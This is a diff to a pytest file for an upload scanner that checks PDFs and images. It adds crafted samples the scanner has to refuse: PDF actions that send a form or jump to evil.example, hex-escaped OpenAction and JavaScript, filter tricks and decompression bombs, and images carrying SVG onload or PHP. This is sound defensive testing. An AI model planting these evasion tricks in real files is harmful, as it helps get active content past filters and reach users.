@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import contextlib
 import io
+import random
 import struct
 import zipfile
 import zlib
+from time import process_time
 
 import pytest
 
@@ -20,6 +23,17 @@ def a_zip(name: str = "a.txt", content: bytes = b"x") -> bytes:
     return made.getvalue()
 
 
+OBJECTS = b"5 0 <</Type/Page/Parent 2 0 R>>"
+OF_OBJECTS = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
+SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
+OUTLINE = b"7 0 obj<</First 8 0 R>>endobj\n"
+
+
+def pdf_with(entry: bytes) -> bytes:
+    """A PDF whose catalogue, or so, has this."""
+    return scans.pdf(b"3 0 obj<<" + entry + b">>endobj\n")
+
+
 TAKEN = {
     **{f"{kind}": (content, kind) for kind, content in scans.GOOD.items()},
     "tiff of the other order": (scans.tiff(order=">"), "image/tiff"),
@@ -29,6 +43,26 @@ TAKEN = {
     "jpeg with filling": (scans.jpeg().replace(b"\xff\xc0", b"\xff\xff\xc0"), "image/jpeg"),
     "bmp from the top": (scans.bmp(height=-3), "image/bmp"),
     "pdf with an open action": (scans.pdf(b"3 0 obj<</OpenAction[1 0 R/Fit]>>endobj\n"), None),
+    "pdf of compressed objects": (scans.pdf_stream(OBJECTS, OF_OBJECTS), None),
+    "pdf of such in a list of one": (
+        scans.pdf_stream(OBJECTS, b"/Type/ObjStm/First 4/Filter[/FlateDecode]"),
+        None,
+    ),
+    "pdf of objects as they are": (
+        scans.pdf_stream(OBJECTS, b"/Type/ObjStm/First 4", packed=False),
+        None,
+    ),
+    "pdf of a photo": (scans.pdf_stream(scans.jpeg(), b"/Filter/DCTDecode", packed=False), None),
+    "pdf of a large page": (scans.pdf_stream(b"\xff" * 30_000_000), None),
+    "pdf of a photo behind objects": (
+        scans.pdf(OUTLINE + scans.pdf_stream(b"x", b"/Filter/LZWDecode", packed=False)),
+        None,
+    ),
+    "pdf with a link": (scans.pdf(b"3 0 obj<</S/URI/URI(https://a.example)>>endobj\n"), None),
+    "pdf with short names by chance": (
+        scans.pdf_stream(b"/AA /XFA /OpenAction", packed=False),
+        None,
+    ),
     "pdf with a line behind it": (scans.pdf() + b"\r\n", None),
     "as large as it may be": (scans.jpeg() + b"\0" * (MOST_BYTES - len(scans.jpeg())), None),
     "PK in it and no zip": (scans.png() + b"PK\x05\x06" + b"\xff" * 30, "image/png"),
@@ -76,6 +110,52 @@ REFUSED = {
     "pdf with a script": (scans.pdf(b"3 0 obj<</S/JavaScript/JS(app.alert)>>endobj\n"), "active"),
     "pdf with a hidden script": (scans.pdf(b"3 0 obj<</S/J#61va#53cript>>endobj\n"), "active"),
     "pdf that starts a program": (scans.pdf(b"3 0 obj<</S/Launch/F(cmd)>>endobj\n"), "active"),
+    "pdf that goes to another": (pdf_with(b"/S/GoToR/F(//evil.example/x.pdf)"), "active"),
+    "pdf that goes into another": (pdf_with(b"/S/GoToE/T<<>>"), "active"),
+    "pdf that sends a form": (pdf_with(b"/S /SubmitForm /F(https://evil.example)"), "active"),
+    "pdf that fetches values": (pdf_with(b"/S/ImportData/F(x)"), "active"),
+    "pdf that plays": (pdf_with(b"/S/Rendition/R 9 0 R"), "active"),
+    "pdf with an action when it opens": (pdf_with(b"/OpenAction 5 0 R"), "active"),
+    "the same, in place": (pdf_with(b"/OpenAction % now\r\n <</S/URI/URI(x)>>"), "active"),
+    "the same, hidden": (pdf_with(b"/Open#41ction<</S/URI/URI(x)>>"), "active"),
+    "the same, far away": (pdf_with(b"/OpenAction" + b" " * 5000 + b"5 0 R"), "active"),
+    "pdf with actions of a page": (pdf_with(b"/AA<</O 5 0 R>>"), "active"),
+    "pdf with names without end": (pdf_with(b"/AA " * 1001), "active"),
+    "pdf with a form that acts": (pdf_with(b"/XFA 5 0 R"), "active"),
+    "pdf with parts of such a form": (pdf_with(b"/XFA[(template)5 0 R]"), "active"),
+    "pdf with a script among objects": (scans.pdf_stream(SCRIPT, OF_OBJECTS), "active"),
+    "the same, that says it is a page": (scans.pdf_stream(SCRIPT), "active"),
+    "the same, behind much": (scans.pdf_stream(b" " * 2_000_000 + SCRIPT, OF_OBJECTS), "active"),
+    "the same, across two pieces": (scans.pdf_stream(b" " * 262_136 + SCRIPT), "active"),
+    "a script as it is": (
+        scans.pdf_stream(SCRIPT, b"/Type/ObjStm/First 4", packed=False),
+        "active",
+    ),
+    "objects of another filter": (
+        scans.pdf_stream(OBJECTS, b"/Type/ObjStm/First 4/Filter/LZWDecode", packed=False),
+        "hidden",
+    ),
+    "objects of two filters": (
+        scans.pdf_stream(OBJECTS, b"/First 4/Filter[/FlateDecode/ASCIIHexDecode]"),
+        "hidden",
+    ),
+    "objects that are scrambled": (
+        scans.pdf_stream(OBJECTS, OF_OBJECTS + b"/DecodeParms<</Predictor 12>>"),
+        "hidden",
+    ),
+    "objects that are cut off": (
+        scans.pdf_stream(zlib.compress(OBJECTS)[:-6], OF_OBJECTS, packed=False),
+        "hidden",
+    ),
+    "objects that swell": (scans.pdf_stream(b" " * 9_000_000, OF_OBJECTS), "hidden"),
+    "streams that swell together": (
+        scans.pdf(
+            b"".join(scans.pdf_stream(b" " * 8_400_000) for _ in range(9))
+            + scans.pdf_stream(SCRIPT, OF_OBJECTS)
+        ),
+        "hidden",
+    ),
+    "more streams than anybody scans": (scans.pdf(b"stream\n" * 2001), "hidden"),
     "pdf with a file in it": (scans.pdf(b"3 0 obj<</Type/EmbeddedFile>>endobj\n"), "active"),
 }
 
@@ -106,3 +186,38 @@ def test_a_part_of_a_file_breaks_nothing(content: bytes) -> None:
 @pytest.mark.parametrize("kind", MediaType)
 def test_an_ending_is_that_of_the_type(kind: MediaType) -> None:
     assert kind.ending == f".{kind.value.split('/')[1]}"
+
+
+def test_what_stands_in_a_picture_by_chance_is_no_page() -> None:
+    """Bytes of a photo are as good as random: in one of a hundred of 5 MB a short tag stands."""
+    by_chance = random.Random(57)
+    for tag in (b"<svg", b"<sVG", b"<HTML", b"<?php"):
+        parts = [by_chance.randbytes(25_000) for _ in range(200)]
+        content = scans.jpeg(scan=tag.join(parts))
+        assert content.count(tag) >= 199
+        assert judge(content) is MediaType.JPEG
+
+
+@pytest.mark.parametrize("tag", [b"<svg onload=alert(1)>", b"<HTML\n><body>", b"<?php echo 1;"])
+def test_a_page_far_in_a_picture_is_one(tag: bytes) -> None:
+    with pytest.raises(DocumentFileRefused) as refused:
+        judge(scans.jpeg(scan=b"\x80" * 2000 + tag))
+    assert refused.value.reason == "mixed"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        scans.pdf(b"/AA%" * 1_000_000),
+        scans.pdf(b"/AA" + b"1" * 4_000_000),
+        scans.pdf(b"stream\n" * 700_000),
+        scans.pdf(b"".join(b"1%1 0 obj /AA%\n" for _ in range(300_000))),
+        scans.pdf(b"".join(scans.pdf_stream(b"/AA%" * 2_000_000) for _ in range(9))),
+    ],
+    ids=["comments", "digits", "streams", "lines", "inflated"],
+)
+def test_no_pdf_takes_long(content: bytes) -> None:
+    began = process_time()
+    with contextlib.suppress(DocumentFileRefused):
+        judge(content)
+    assert process_time() - began < 5
